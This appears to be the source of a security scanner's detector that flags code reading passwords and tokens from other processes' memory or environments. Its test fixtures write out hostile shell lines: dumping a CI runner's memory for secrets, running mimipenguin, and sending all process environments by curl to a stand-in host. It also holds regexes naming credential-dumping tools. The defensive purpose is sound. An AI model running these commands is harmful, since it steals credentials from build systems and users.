import type { SecretEffect } from '../trace/effect.ts';
import { render } from '../trace/value.ts';
import { destinationOf, leaves } from './destinations.ts';
import type { Detector, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { valueWords } from './wording.ts';

/** Passwords and tokens out of the memory of other processes. */
export const memoryDump: Detector = {
  id: 'memory-dump',
  version: 1,
  title: 'Reads secrets out of the memory of other processes.',
  attack: ['T1003.007', 'T1057'],
  description: `
\`/proc/PID/mem\`, \`gcore\` and mimipenguin show what other processes hold: passwords of logins, tokens of a build runner.
*Malicious* when the same code searches the dump for secrets, goes for a build runner or a login service, or sends data away;
*suspicious* when it goes through all processes; a *note* for a dump of a process (debugging). The environment of all
processes (\`/proc/*/environ\`) is *suspicious*, and *malicious* when something is sent.
`,
  fires: [
    {
      name: 'a build runner',
      image: {
        cmd: [
          'sh',
          '-c',
          'pid=$(pgrep -f Runner.Worker); cat /proc/$pid/mem | tr -d "\\0" | grep -aoE "\\"isSecret\\":true" | base64',
        ],
      },
    },
    { name: 'mimipenguin', image: { cmd: ['sh', '-c', 'sh /opt/mimipenguin.sh; mimipenguin -o /tmp/o'] } },
    {
      name: 'all environments, sent',
      image: { cmd: ['sh', '-c', 'cat /proc/*/environ > /tmp/e; curl -T /tmp/e https://c.example/'] },
    },
    {
      name: 'all environments',
      severity: 'suspicious',
      image: { cmd: ['sh', '-c', 'cat /proc/*/environ | grep -a KEY > /tmp/e'] },
    },
    { name: 'one process', severity: 'note', image: { cmd: ['sh', '-c', 'gcore 17; exec app'] } },
  ],
  silent: [
    {
      name: 'its own environment',
      image: { cmd: ['sh', '-c', 'cat /proc/self/environ | tr "\\0" "\\n"; cat /proc/1/environ; exec app'] },
    },
    { name: 'memory statistics', image: { cmd: ['sh', '-c', 'cat /proc/meminfo /proc/1/status; exec app'] } },
  ],
  detect(scene) {
    return effectsOf(scene, 'secret').flatMap((effect) => {
      if (effect.what !== 'memory' && !(effect.what === 'environment' && isSweep(render(effect.path)))) return [];
      const sighting = sightingOf(scene, effect);
      const text = sighting.stage.text.slice(0, 20_000);
      const target = /Runner\.(Worker|Listener)|gnome-keyring|\bsshd\b|lightdm|gdm|isSecret|vsftpd|apache2/.exec(
        text,
      )?.[0];
      const sends = sendsAway(scene, effect);
      const searches =
        effect.what === 'memory' &&
        /grep[^\n]{0,40}-[a-zA-Z]{0,6}[aoE]|strings\b|AKIA|ghp_|isSecret|password/i.test(text);
      const dumper = /mimi(penguin|py)|linikatz|3snake|swap_digger/.test(
        render(effect.path) + (sighting.command?.name ?? ''),
      );
      const hostile =
        dumper ||
        sends ||
        (effect.what === 'memory' && (target !== undefined || (searches && isSweep(render(effect.path)))));
      return findingOf(scene, sighting, {
        threat: hostile ? 'hostile' : isSweep(render(effect.path)) ? 'dual-use' : 'minor',
        title: `Reads the ${effect.what === 'memory' ? 'memory' : 'environment'} of other processes (${valueWords(effect.path, 60)})`,
        because: sends ? 'The same code sends data away.' : target ? `It goes for ${target}.` : undefined,
        effects: [effect.id],
      });
    });
  },
};

/** Every process, or one that is found while running. */
function isSweep(path: string): boolean {
  return /\/proc\/(\*|\[0-9\]\*|‹|%|\{)/.test(path);
}

function sendsAway(scene: Scene, effect: SecretEffect): boolean {
  return scene.story.effects.some(
    (other) => other.kind === 'exfiltrate' && other.stage === effect.stage && leaves(destinationOf(other.to)),
  );
}
